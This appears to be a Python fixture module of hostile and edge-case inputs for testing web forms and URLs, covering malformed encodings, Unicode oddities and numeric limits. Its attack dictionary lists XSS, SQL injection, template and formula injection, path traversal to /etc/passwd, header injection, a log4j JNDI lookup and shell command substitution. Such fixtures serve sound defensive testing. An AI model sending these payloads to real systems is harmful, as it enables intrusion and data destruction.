"""What people, pasted text and attackers type: for every field of every form and every part of an address.

``STRINGS`` has a name for each. Bytes are what no text can hold and a browser can yet be made to send.
``PLAIN`` are those that a document can print: accepted by a free text of enough length, and shown again
in a form that was refused. ``beyond(length)`` adds those that a field's own length makes.
"""

from __future__ import annotations

import re

PROBE = "bad(1)"
"""What a script of the corpus would run."""

SEVEN_TIMES_19181 = "134267"
"""What a template that was run would leave; no clock shows it, as files that say when they were made do."""

_BLANK = {
    "empty": "", "space": " ", "blanks": " \t\r\n ", "ideographic spaces": "\u3000\u3000", "no-break space": "\xa0",
    "zero width": "\u200b\u200d\u2060", "hangul filler": "\u3164",
}  # fmt: skip
_LONG = {"two thousand": "长" * 2001, "megabyte": "x" * 1_000_000}
_BROKEN: dict[str, str | bytes] = {
    "NUL": "张\x00三", "NUL alone": "\x00", "control": "张\x01\x08\x1b三", "delete": "张\x7f三", "C1 control": "张\x85\x9b三",
    "bell and backspace": "\x07\x08", "lone high surrogate": b"\xe5\xbc\xa0\xed\xa0\x80", "lone low surrogate": b"\xed\xbf\xbf",
    "no UTF-8": b"\xe5\xbc\xff\xfe", "overlong slash": b"\xc0\xaf", "GBK": "张三".encode("gbk"),
    "no character": "张\ufffe\uffff", "byte order mark": "\ufeff张三", "bidi override": "张\u202e三",
    "bidi isolate": "\u2066张三\u2069", "right to left mark": "\u200f张三",
}  # fmt: skip
_WRITING = {
    "emoji": "👩🏽\u200d🚒", "flag": "🇨🇳", "plane 2": "𬱖𠮷𪚥", "plane 3": "𰻝𱁬", "radicals": "⼈⺮", "compatibility": "豈更",
    "combining": "z" + "\u0301\u0327" * 8, "decomposed": "e\u0301", "full-width digits": "１２３", "full-width letters": "ａｄｍｉｎ",
    "arabic": "مرحبا", "thai": "ก็็็", "tibetan": "བོད་ཡིག", "private use": "\ue000", "middle dot": "阿卜杜拉·买买提", "lines": "第一行\r\n第二行",
    "tab": "左\t右",
}  # fmt: skip
_ATTACKS = {
    "script": f"<script>{PROBE}</script>", "image": f"<img src=x onerror={PROBE}>", "attribute": f"\"' onfocus='{PROBE}' autofocus=\"",
    "out of the box": f"</textarea></select><svg/onload={PROBE}>", "script address": f"javascript:{PROBE}",
    "entity": f"&lt;script&gt;{PROBE}&#60;/script&#62;&amp;", "end of CDATA": "]]><xss/>&xxe;<?xml?>", "comment": f"--><!--<script>{PROBE}",
    "SQL": "'; DROP TABLE expert; --", "SQL or": "' OR 1=1 --", "wildcards": "%_\\", "jinja": "{{ 7*19181 }}{% for %}{#",
    "other templates": "${7*19181}#{7*19181}<%= 7*19181 %>", "format": "%s%n{0}{x.__class__}", "formula": "=7*19181+cmd|' /C calc'!A0",
    "plus formula": "+7*19181", "at formula": "@SUM(7*19181)", "path": "../../../../etc/passwd", "windows path": "..\\..\\con.txt\\",
    "header": "x\r\nSet-Cookie: bad=1", "log4j": "${jndi:ldap://x.invalid/a}", "shell": "$(id);`id`|id&",
}  # fmt: skip
_NUMBERS = {
    "huge": "9" * 30, "beyond 32 bits": "2147483648", "beyond 64 bits": "9223372036854775808", "five thousand digits": "1" * 5000,
    "negative": "-1", "zero": "0", "fraction": "1.5", "exponent": "1e309", "not a number": "NaN", "infinity": "Infinity",
    "superscript": "²", "arabic digits": "٣", "hexadecimal": "0x1F", "underscore": "1_0", "true": "true", "None": "None",
    "list": "[]", "JSON": '{"$gt": ""}', "thirtieth of February": "2026-02-30", "year ten thousand": "10000-01-01", "year zero": "0000-00-00",
}  # fmt: skip

STRINGS: dict[str, str | bytes] = {**_BLANK, **_LONG, **_BROKEN, **_WRITING, **_ATTACKS, **_NUMBERS}
PLAIN: dict[str, str] = {**_WRITING, **_ATTACKS, **_NUMBERS}


def beyond(length: int) -> dict[str, str]:
    """The longest that a field of ``length`` characters takes, in three writings, and one more."""
    return {"maximum": "长" * length, "maximum of plane 2": "𠮷" * length, "maximum + 1": "长" * (length + 1)}


def as_typed(text: str) -> str:
    """A text as a form keeps it: no carriage returns, no blanks around it."""
    return re.sub(r"\r\n?", "\n", text).strip()
